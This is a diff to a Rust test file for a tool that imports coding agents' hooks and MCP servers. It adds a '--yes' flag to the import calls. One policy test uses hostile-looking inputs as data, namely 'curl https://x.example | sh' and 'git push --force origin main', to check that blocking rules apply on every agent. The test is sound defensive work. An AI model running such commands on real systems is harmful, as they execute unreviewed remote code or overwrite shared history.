@@ -93,7 +93,7 @@ fn what_is_there_is_reported_written_and_valid() {
     "#]],
     );
     assert!(!context.config_dir().join("plugins").exists());
-    context.invoke(&["import", "--from", "claude"]).expect(0);
+    context.invoke(&["import", "--from", "claude", "--yes"]).expect(0);
     expect![[r##"
         # Hooks, MCP servers and skills of Claude Code for all agents, written by `symposium import --from claude`.
         # A later import keeps your changes to this file. An imported hook or server is skipped in Claude Code while
@@ -184,17 +184,17 @@ fn what_is_there_is_reported_written_and_valid() {
 #[test]
 fn importing_twice_changes_nothing() {
     let context = with_six_hooks();
-    context.invoke(&["import", "--from", "claude"]).expect(0);
+    context.invoke(&["import", "--from", "claude", "--yes"]).expect(0);
     let stamp = |context: &TestContext| {
         let plugin = context.config_dir().join("plugins/imported-claude");
         let of = |file: &str| std::fs::metadata(plugin.join(file)).unwrap().modified().unwrap();
         (context.tree(&plugin), of("SYMPOSIUM.toml"), of("imported.json"), of("skills/house-style/SKILL.md"))
     };
     let before = stamp(&context);
-    let output = context.invoke(&["import", "--from", "claude"]);
+    let output = context.invoke(&["import", "--from", "claude", "--yes"]);
     assert!(output.stdout.starts_with("Nothing to do: 6 hooks, 2 MCP servers, 1 skill"), "{}", output.transcript());
     assert_eq!(stamp(&context), before);
-    let found = document(context.invoke(&["import", "--from", "claude", "--json"]));
+    let found = document(context.invoke(&["import", "--from", "claude", "--json", "--yes"]));
     let imported = found["imported"].as_array().unwrap();
     assert!(imported.len() == 9 && imported.iter().all(|row| row["state"] == "unchanged"), "{found}");
 }
@@ -202,7 +202,7 @@ fn importing_twice_changes_nothing() {
 #[test]
 fn the_same_policies_hold_on_every_agent() {
     let context = with_six_hooks();
-    context.invoke(&["import", "--from", "claude"]).expect(0);
+    context.invoke(&["import", "--from", "claude", "--yes"]).expect(0);
     let push = &json!("git push --force origin main");
     let pipe = &json!("curl https://x.example | sh");
     let lock = &json!(context.workspace().join("Cargo.lock"));
@@ -284,7 +284,7 @@ fn it_stands_down_until_the_agents_own_entry_is_removed() {
     let context = with_six_hooks();
     context.invoke(&["init", "--yes", "--agent", "claude", "--agent", "codex"]).expect(0);
     let settings = std::fs::read_to_string(home(&context, ".claude/settings.json")).unwrap();
-    context.invoke(&["import", "--from", "claude"]).expect(0);
+    context.invoke(&["import", "--from", "claude", "--yes"]).expect(0);
     context.invoke(&["sync"]).expect(0);
     assert_eq!(std::fs::read_to_string(home(&context, ".claude/settings.json")).unwrap(), settings);
     assert_eq!(claude_push(&context).stdout, "", "Claude Code runs its own");
@@ -312,7 +312,7 @@ fn it_stands_down_until_the_agents_own_entry_is_removed() {
     let output = claude_push(&context);
     assert!(output.stdout.contains("No forced pushes"), "{output:?}");
     // Importing again does not take back what is gone there.
-    context.invoke(&["import", "--from", "claude"]).expect(0);
+    context.invoke(&["import", "--from", "claude", "--yes"]).expect(0);
     assert!(manifest(&context, "claude").contains("name = \"no-force-push\""));
 }
 
@@ -323,7 +323,7 @@ fn uninstalling_leaves_the_agents_own_hooks_as_they_were() {
     let read = || files.map(|file| std::fs::read(home(&context, file)).unwrap());
     let before = read();
     context.invoke(&["init", "--yes", "--agent", "claude", "--agent", "gemini"]).expect(0);
-    context.invoke(&["import", "--from", "claude"]).expect(0);
+    context.invoke(&["import", "--from", "claude", "--yes"]).expect(0);
     context.invoke(&["sync"]).expect(0);
     let output = context.invoke(&["uninstall", "--yes"]);
     assert_eq!(read(), before);
@@ -345,12 +345,12 @@ fn a_projects_hooks_become_a_plugin_of_the_project() {
     );
     context.write(".claude/hooks/guard.sh", "#!/bin/sh\ngrep -q publish && { echo 'not here' >&2; exit 2; }\nexit 0\n");
     crate::set_mode(&context.workspace().join(".claude/hooks/guard.sh"), 0o755);
-    let found = document(context.invoke(&["import", "--from", "claude", "--json"]));
+    let found = document(context.invoke(&["import", "--from", "claude", "--json", "--yes"]));
     assert_eq!(found["imported"], json!([]), "{found}");
     let why = found["left_out"][0]["why"].as_str().unwrap();
     assert_eq!(why, "it belongs to this project; run `symposium import --from claude --project` to import it");
 
-    let output = context.invoke(&["import", "--from", "claude", "--project"]);
+    let output = context.invoke(&["import", "--from", "claude", "--project", "--yes"]);
     assert!(output.stderr.contains("`symposium trust` to grant its programs"), "{output:?}");
     let plugin = context.workspace().join(".symposium/plugins/imported-claude-project");
     let text = std::fs::read_to_string(plugin.join("SYMPOSIUM.toml")).unwrap();
@@ -370,7 +370,7 @@ fn a_projects_hooks_become_a_plugin_of_the_project() {
     assert!(context.invoke_hook("copilot", "preToolUse", &payload).stdout.contains("not here"));
     // A second import has nothing to add to either file.
     let before = std::fs::read_to_string(context.workspace().join(".symposium/config.toml")).unwrap();
-    context.invoke(&["import", "--from", "claude", "--project"]).expect(0);
+    context.invoke(&["import", "--from", "claude", "--project", "--yes"]).expect(0);
     assert_eq!(std::fs::read_to_string(context.workspace().join(".symposium/config.toml")).unwrap(), before);
 }
 
@@ -379,7 +379,7 @@ fn scripts_find_their_project_on_every_agent() {
     let context = with_fixture(&["workspace0"]);
     let hook = json!({"type": "command", "bash": "echo \"in $COPILOT_PROJECT_DIR\" >&2; exit 2"});
     write_home(&context, ".copilot/hooks/mine.json", &json!({"hooks": {"preToolUse": [hook]}}).to_string());
-    context.invoke(&["import", "--from", "copilot"]).expect(0);
+    context.invoke(&["import", "--from", "copilot", "--yes"]).expect(0);
     let payload = recorded(&context, "codex", "PreToolUse.Bash", &[]);
     let output = context.invoke_hook("codex", "PreToolUse", &payload);
     assert!(output.stdout.contains("\"in $WORKSPACE\""), "{output:?}");
@@ -399,7 +399,7 @@ fn the_end_of_a_session_is_heard_on_every_agent_and_the_session_is_in_the_variab
     let say = |word: &str| json!([{"hooks": [{"type": "command", "command": format!("echo {word} $CLAUDE_SESSION_ID >> seen")}]}]);
     let hooks = json!({"hooks": {"SessionEnd": say("end"), "PreToolUse": say("tool")}});
     std::fs::write(settings, hooks.to_string()).unwrap();
-    let said = context.invoke(&["import", "--from", "claude"]).expect(0);
+    let said = context.invoke(&["import", "--from", "claude", "--yes"]).expect(0);
     assert!(said.contains("gemini:SessionEnd") && !said.contains("alone"), "{said}");
     assert!(!said.contains("CLAUDE_SESSION_ID"), "nothing of it is left out: {said}");
     let send = |event: &str, payload: Value| {
